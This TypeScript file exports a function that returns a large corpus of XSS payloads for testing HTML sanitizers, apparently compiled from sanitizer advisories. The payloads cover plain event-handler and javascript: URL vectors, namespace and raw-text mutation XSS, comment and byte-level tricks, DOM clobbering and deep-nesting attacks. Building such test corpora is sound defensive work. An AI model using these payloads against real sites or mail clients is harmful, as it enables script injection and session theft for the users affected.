/**
 * HTML that tries to run a script: the plain ways, and mutations (mXSS), where what is harmless as it was read becomes
 * another thing when it is written and read again. Gathered after the advisories and tests of HTML sanitizers.
 *
 * @param script what would run, without quotes or spaces
 */
export function scriptingMail(script: string): readonly string[] {
  const image = `<img src=x onerror=${script}>`;
  return [
    // Plain.
    `<script>${script}</script>`,
    image,
    `<svg onload=${script}>`,
    `<svg><script>${script}</script></svg>`,
    `<body onload=${script}>`,
    `<a href="javascript:${script}" autofocus onfocus=${script} tabindex=1>x</a>`,
    `<iframe src="javascript:${script}"></iframe>`,
    `<iframe srcdoc="<script>${script}</script>"></iframe>`,
    `<object data="javascript:${script}"></object>`,
    `<embed src="javascript:${script}">`,
    `<form action="javascript:${script}"><input type=submit autofocus onfocus=${script}></form>`,
    `<details open ontoggle=${script}>x</details>`,
    `<video autoplay onloadstart=${script}><source src=x onerror=${script}></video>`,
    `<marquee onstart=${script}>x</marquee>`,
    `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
    `<input autofocus onfocus=${script}>`,
    `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=${script}>x</p>`,
    `<dialog open onclose=${script} onbeforetoggle=${script}><button popovertarget=p>x</button></dialog>`,
    `<link rel=stylesheet href="data:text/css,*{}" onload=${script}>`,
    `<template shadowrootmode=open>${image}</template>`,
    `<math><maction actiontype="statusline#" xlink:href="javascript:${script}">x</maction></math>`,
    `<svg><a><animate attributeName=href values=javascript:${script} /><text>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${script}</script></svg>#x"/></svg>`,
    `<svg><foreignObject>${image}</foreignObject></svg>`,
    // Mutations by namespaces.
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<svg></p><style><a id="</style>${image}">`,
    `<svg><p><style><g title="</style>${image}">`,
    `<math></p><style><!--</style>${image}--></style>`,
    `<math><mi><mglyph><svg><mtext><style><path id="</style>${image}">`,
    `<svg><title><style><a id="</style>${image}"></style></title></svg>`,
    `<svg><desc><noscript><style></noscript>${image}</style></desc></svg>`,
    `<math><annotation-xml encoding="text/html"><style><img src="</style>${image}"></annotation-xml></math>`,
    `<math><annotation-xml encoding="text/html"><p><style><a title="</style>${image}">`,
    `<select><math><mtext><table><mglyph><style><math>${image}</style></select>`,
    `<svg><foreignobject><math><mi><b><style><a id="</style>${image}">`,
    `a<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>${image}">`,
    `<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style>${image}">`,
    // Mutations by elements whose text is not parsed.
    `<noscript><p title="</noscript>${image}">`,
    `<noembed><p title="</noembed>${image}">`,
    `<noframes><p title="</noframes>${image}">`,
    `<xmp><p title="</xmp>${image}">`,
    `<iframe><p title="</iframe>${image}"></iframe>`,
    `<textarea><p title="</textarea>${image}">`,
    `<title><p title="</title>${image}">`,
    `<style><p title="</style>${image}">`,
    `<template><p title="</template>${image}">`,
    `<style><!--</style>${image}--></style>`,
    `<plaintext>${image}`,
    `<listing>&lt;img src=x onerror=${script}&gt;</listing>`,
    `<style>*{content:"\\3c/style\\3e\\3cimg src=x onerror=${script}\\3e"}</style>`,
    `<style>a[title="</sty"],b{} \\3c/style>${image}</style>`,
    // Comments, instructions, odd bytes.
    `<!--><script>${script}</script>-->`,
    `<!--!>${image}<!-->`,
    `<!-- --!>${image}<!-- -->`,
    `<?xml ?>${image}`,
    `<?xml-stylesheet ><img src=x title="?>${image}">`,
    `<![CDATA[><img src=x title="]]>${image}">`,
    `<svg><![CDATA[${image}]]></svg>`,
    `<img\u0000 src=x\u000conerror=${script}>`,
    `<img src="x\` \`${image}"\` \`>`,
    `<a href="java&#x09;script:${script}">x</a>`,
    `<a href="\u0001javascript:${script}">x</a>`,
    `<img src=1 href=1 onerror="${script}" =">`,
    `<img/src/onerror=${script}>`,
    // Clobbering of what a sanitizer itself looks at.
    `<form id=x><input name=attributes><input name=childNodes><input name=nodeName>${image}</form>`,
    `<form><input name=parentNode><input name=removeChild onfocus=${script} autofocus></form>`,
    `<form onsubmit=${script} tabindex=1 autofocus onfocus=${script}><input name=attributes></form>`,
    `<img name=getElementById><img name=travaso id=travaso><a id=location href="javascript:${script}">x</a>`,
    // Depth.
    `${'<div>'.repeat(600)}${image}`,
    `${'<svg><g>'.repeat(200)}<style><a id="</style>${image}">`,
    `${'<form><div>'.repeat(260)}</form>`.concat(`<math><mtext><style><a id="</style>${image}">`),
  ];
}
